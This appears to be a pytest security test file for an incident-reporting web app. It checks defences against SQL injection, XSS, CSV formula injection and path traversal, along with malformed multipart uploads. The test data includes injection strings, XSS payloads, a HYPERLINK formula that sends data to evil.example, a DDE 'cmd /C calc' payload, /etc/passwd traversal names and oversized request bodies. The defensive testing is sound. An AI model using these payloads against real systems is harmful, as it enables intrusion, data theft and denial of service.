"""Hostile text and hostile requests against the real app on SQLite and PostgreSQL: SQL
metacharacters stored and returned verbatim and never widening a search; markup and
``javascript:`` shown escaped on the desk's pages; spreadsheet formulas neutralised in CSV
exports; path tricks in upload names kept inside the blob store and shown as plain names;
malformed multipart bodies answered 4xx with nothing stored.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from qorgau.desk import CaseDesk
from qorgau.monitor_desk import register_csv
from qorgau.response_desk import ResponseDesk
from qorgau.security.csv_cells import safe_cell
from qorgau.store.store import Store
from qorgau.store.tables import attachments, incidents
from qorgau.web.app import create_app
from tests.conftest import Account
from tests.integration.test_ui_report_form import open_form, receipt_of
from tests.support.web import signed_in

SQL = [
    "' OR 1=1 --",
    '"; DROP TABLE incidents; --',
    "100% off_sale",
    "%",
    "_",
    "back\\slash \\' \\\\",
    "'; SELECT pg_sleep(5); --",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(3)",
    "'><svg onload=alert(4)>",
]
FTS_SYNTAX = ['"', '"open', "a OR", "NEAR(a b", "*", "title:x", "-x", "a AND (b", "\\", "'", "^"]


@pytest.fixture
def api(store: Store) -> Iterator[TestClient]:
    with TestClient(create_app(store.settings, store)) as c:
        yield c


def report(api: TestClient, who: Account, text: str, **extra: Any) -> str:
    body = {
        "title": f"T {text}",
        "description": f"D {text}",
        "attack_types": ["doxxing"],
        "perpetrator": {"type": "unknown", "description": f"P {text}"},
        "targets": [{"kind": "person", "name": f"N {text}"}],
        "reporter": {"name": f"R {text}"},
        "external_ref": f"X {text}"[:100],
        **extra,
    }
    r = api.post("/api/v1/reports", json=body, headers=who.headers)
    assert r.status_code == 201, r.text
    return str(r.json()["public_id"])


def ids_for(api: TestClient, who: Account, **params: str) -> set[str]:
    r = api.get("/api/v1/incidents", params=params, headers=who.headers)
    assert r.status_code == 200, (params, r.text)
    return {i["public_id"] for i in r.json()["items"]}


def test_sql_metacharacters_are_kept_verbatim_and_never_widen_a_search(
    api: TestClient, accounts: dict[str, Account]
) -> None:
    lead = accounts["coordinator"]
    control = report(api, lead, "Control case about a DDoS")
    made = {text: report(api, lead, text) for text in SQL}
    for text, pid in made.items():
        got = api.get(f"/api/v1/incidents/{pid}", headers=lead.headers).json()
        assert got["title"] == f"T {text}" and got["description"] == f"D {text}"
        assert got["perpetrator"]["description"] == f"P {text}"
        assert [t["name"] for t in got["targets"]] == [f"N {text}"]
        assert got["reporter"]["name"] == f"R {text}"
        assert got["external_ref"] == f"X {text}"
    everyone = {control, *made.values()}
    assert ids_for(api, lead) == everyone  # the tables are all still there
    for text, pid in made.items():
        # Never more than what matches: a wildcard or quote is a character, not SQL.
        assert control not in ids_for(api, lead, q=text), text
        assert ids_for(api, lead, target=f"N {text}") == {pid}, text
    # A target is looked up by its whole name: a lone wildcard finds at most itself.
    assert ids_for(api, lead, target="%") <= {made["%"]}
    assert ids_for(api, lead, target="_") <= {made["_"]}
    for q in FTS_SYNTAX:
        assert control not in ids_for(api, lead, q=q), q
    evidence = api.get("/api/v1/evidence", params={"q": "' OR 1=1 --"}, headers=lead.headers)
    assert evidence.status_code == 200 and evidence.json() == []


def test_a_nul_byte_is_refused_clearly_or_kept_never_a_server_error(
    api: TestClient, accounts: dict[str, Account]
) -> None:
    lead = accounts["coordinator"]
    r = api.post(
        "/api/v1/reports",
        json={"title": "nul \x00 byte", "attack_types": ["doxxing"]},
        headers=lead.headers,
    )
    assert r.status_code in (201, 422), r.text
    if r.status_code == 422:
        assert "title" in r.text
    search = api.get("/api/v1/incidents", params={"q": "a\x00b"}, headers=lead.headers)
    assert search.status_code in (200, 422)


def test_a_nul_byte_in_the_public_form_is_dropped_and_the_report_filed(
    desk_web: TestClient, store: Store, accounts: dict[str, Account]
) -> None:
    form = open_form(desk_web, "en")
    sent = desk_web.post(
        "/report",
        data={**form, "description": "They wrote\x00 to me", "contact_name": "A\x00B"},
    )
    assert sent.status_code == 200, sent.text[:300]
    desk = CaseDesk(store)
    public_id, _, _ = desk.track(receipt_of(sent.text))
    incident = desk.get(accounts["coordinator"].principal, public_id)
    assert incident.description == "They wrote to me" and incident.reporter.name == "AB"


@pytest.fixture
def desk_web(store: Store) -> Iterator[TestClient]:
    with TestClient(create_app(store.settings, store), headers={"accept": "text/html"}) as c:
        yield c


def test_markup_in_every_text_field_is_escaped_on_the_desk_pages(
    api: TestClient, desk_web: TestClient, store: Store, accounts: dict[str, Account]
) -> None:
    lead = accounts["coordinator"]
    pids = [report(api, lead, text) for text in MARKUP]
    signed_in(desk_web, store, accounts["coordinator"].token)
    pages = ["/desk", "/desk/queue/rows", f"/desk?q={MARKUP[1]}"]
    for pid in pids:
        pages += [f"/desk/cases/{pid}", f"/desk/cases/{pid}/timeline"]
    for url in pages:
        r = desk_web.get(url)
        assert r.status_code == 200, (url, r.text[:300])
        html = r.text
        for bad in ("<script>alert(1)", "<img src=x onerror", "<svg onload", 'href="javascript:'):
            assert bad not in html, (url, bad)
    case = desk_web.get(f"/desk/cases/{pids[0]}").text
    assert "T &lt;script&gt;alert(1)&lt;/script&gt;" in case
    assert "N &lt;script&gt;alert(1)&lt;/script&gt;" in case
    attribute = desk_web.get(f"/desk/cases/{pids[1]}").text
    assert "&#34;&gt;&lt;img src=x onerror=alert(2)&gt;" in attribute or (
        "&quot;&gt;&lt;img src=x onerror=alert(2)&gt;" in attribute
    )


def test_markup_is_escaped_in_the_monitoring_report_html(
    api: TestClient, accounts: dict[str, Account]
) -> None:
    lead = accounts["coordinator"]
    for text in MARKUP:
        report(
            api,
            lead,
            text,
            targets=[{"kind": "outlet", "name": f"Orda {text}", "consent_public": True}],
            reported_at="2025-05-06T09:00:00+05:00",
            tlp="clear",
        )
    r = api.get(
        "/api/v1/reports/monitoring",
        params={"period": "2025-Q2", "lang": "ru"},
        headers=lead.headers,
    )
    assert r.status_code == 200, r.text[:300]
    for bad in ("<script>alert(1)", "<img src=x onerror", "<svg onload", 'href="javascript:'):
        assert bad not in r.text, bad


def test_javascript_urls_are_refused_as_sources(
    api: TestClient, accounts: dict[str, Account]
) -> None:
    r = api.post(
        "/api/v1/reports",
        json={"title": "x", "attack_types": ["doxxing"], "source_urls": ["javascript:alert(1)"]},
        headers=accounts["coordinator"].headers,
    )
    assert r.status_code == 422 and "source_urls" in r.text


def test_spreadsheet_formulas_are_neutralised_in_csv_exports(
    api: TestClient, accounts: dict[str, Account]
) -> None:
    lead = accounts["coordinator"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    report(
        api,
        lead,
        "x",
        title=formula,
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        tlp="clear",
        targets=[{"kind": "outlet", "name": "-Orda.kz", "consent_public": True}],
        reported_at="2025-05-06T09:00:00+05:00",
    )
    r = api.get("/api/v1/share/trackers/coe", headers=lead.headers)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows, r.text
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "@", "\t", "\r")), row
    assert any("-Orda.kz" in row["title"] for row in rows)  # the typed name is there, inert
    assert [safe_cell(v) for v in ("-5", "+7 701 123 4567", "-cmd", "+A1", 3)] == [
        "-5",
        "+7 701 123 4567",
        "'-cmd",
        "'+A1",
        3,
    ]


def test_the_censorship_register_csv_neutralises_a_typed_legal_reference() -> None:
    from datetime import UTC, datetime

    from qorgau.store.monitor import RegisterEntry

    fields = RegisterEntry.__dataclass_fields__
    values: dict[str, Any] = {
        "host": "orda.kz",
        "first_seen": datetime(2025, 1, 1, tzinfo=UTC),
        "last_seen": datetime(2025, 1, 2, tzinfo=UTC),
        "currently_blocked": True,
        "methods": ("dns",),
        "networks": ({"network": "AS9198"},),
        "legal_basis": "court_order",
        "legal_reference": "=cmd|' /C calc'!A0",
        "observations": (1,),
    }
    entry = RegisterEntry(**{k: v for k, v in values.items() if k in fields})
    (row,) = list(csv.DictReader(io.StringIO(register_csv([entry]))))
    assert row["legal_reference"] == "'=cmd|' /C calc'!A0"


# -- upload names and malformed bodies ---------------------------------------------------------


def blob_files(store: Store) -> set[Path]:
    root = Path(store.settings.data_dir)
    return {p for p in root.rglob("*") if p.is_file()}


def counts(store: Store) -> tuple[int, int]:
    with store.read() as conn:
        n = conn.execute(sa.select(sa.func.count()).select_from(incidents)).scalar_one()
        a = conn.execute(sa.select(sa.func.count()).select_from(attachments)).scalar_one()
    return int(n), int(a)


def test_path_tricks_in_upload_names_stay_inside_the_store_and_show_as_plain_names(
    desk_web: TestClient, store: Store, accounts: dict[str, Account]
) -> None:
    root = Path(store.settings.data_dir).resolve()
    before = {p for p in root.parent.rglob("*") if p.is_file()} if root.parent.exists() else set()
    names = {
        "../../etc/passwd.txt": "passwd.txt",
        "..\\..\\windows\\win.txt": "win.txt",
        "/etc/shadow.txt": "shadow.txt",
        # Clients percent-encode a NUL in a multipart name; it arrives as three characters.
        "nul\x00name.txt": "nul%00name.txt",
        "<img src=x onerror=alert(1)>.txt": "<img src=x onerror=alert(1)>.txt",
    }
    form = open_form(desk_web, "en")
    sent = desk_web.post(
        "/report",
        data={**form, "description": "Files with odd names."},
        files=[
            ("files", (name, f"file {i}".encode(), "text/plain")) for i, name in enumerate(names)
        ],
    )
    assert sent.status_code == 200, sent.text
    desk = CaseDesk(store)
    public_id, _, _ = desk.track(receipt_of(sent.text))
    kept = ResponseDesk(desk).attachments(accounts["responder"].principal, public_id)
    assert sorted(a.filename or "" for a in kept) == sorted(names.values())
    after = {p for p in root.parent.rglob("*") if p.is_file()}
    assert all(p.resolve().is_relative_to(root) for p in after - before)
    assert not any(p.name in ("passwd.txt", "win.txt", "shadow.txt") for p in after)
    signed_in(desk_web, store, accounts["responder"].token)
    page = desk_web.get(f"/desk/cases/{public_id}").text
    assert "<img src=x onerror" not in page and "&lt;img src=x onerror=alert(1)&gt;.txt" in page
    for a in kept:
        r = desk_web.get(f"/api/v1/incidents/{public_id}/attachments/{a.sha256}")
        disposition = r.headers["content-disposition"]
        assert "/" not in disposition and "\\" not in disposition and "\x00" not in disposition
        assert disposition.count('"') == 2  # the name cannot close the quoted string


MALFORMED: list[tuple[str, dict[str, str], bytes]] = [
    ("no boundary", {"content-type": "multipart/form-data"}, b"--x\r\n\r\n--x--\r\n"),
    (
        "truncated",
        {"content-type": "multipart/form-data; boundary=xyz"},
        b'--xyz\r\nContent-Disposition: form-data; name="description"\r\n\r\nhalf a rep',
    ),
    (
        "huge part header",
        {"content-type": "multipart/form-data; boundary=xyz"},
        b'--xyz\r\nContent-Disposition: form-data; name="d"\r\nX-Pad: '
        + b"a" * 200_000
        + b"\r\n\r\nv\r\n--xyz--\r\n",
    ),
    (
        "thousands of parts",
        {"content-type": "multipart/form-data; boundary=xyz"},
        b"".join(
            b'--xyz\r\nContent-Disposition: form-data; name="f%d"\r\n\r\nv\r\n' % i
            for i in range(5000)
        )
        + b"--xyz--\r\n",
    ),
    (
        "thousands of files",
        {"content-type": "multipart/form-data; boundary=xyz"},
        b"".join(
            b'--xyz\r\nContent-Disposition: form-data; name="files"; filename="a%d.txt"\r\n'
            b"Content-Type: text/plain\r\n\r\nv\r\n" % i
            for i in range(1500)
        )
        + b"--xyz--\r\n",
    ),
]


@pytest.mark.parametrize(("case", "headers", "body"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_multipart_is_answered_4xx_and_stores_nothing(
    desk_web: TestClient, store: Store, case: str, headers: dict[str, str], body: bytes
) -> None:
    open_form(desk_web, "en")
    before, files_before = counts(store), blob_files(store)
    r = desk_web.post("/report", content=body, headers=headers)
    assert 400 <= r.status_code < 500, (case, r.status_code, r.text[:300])
    assert "Traceback" not in r.text
    assert counts(store) == before and blob_files(store) == files_before
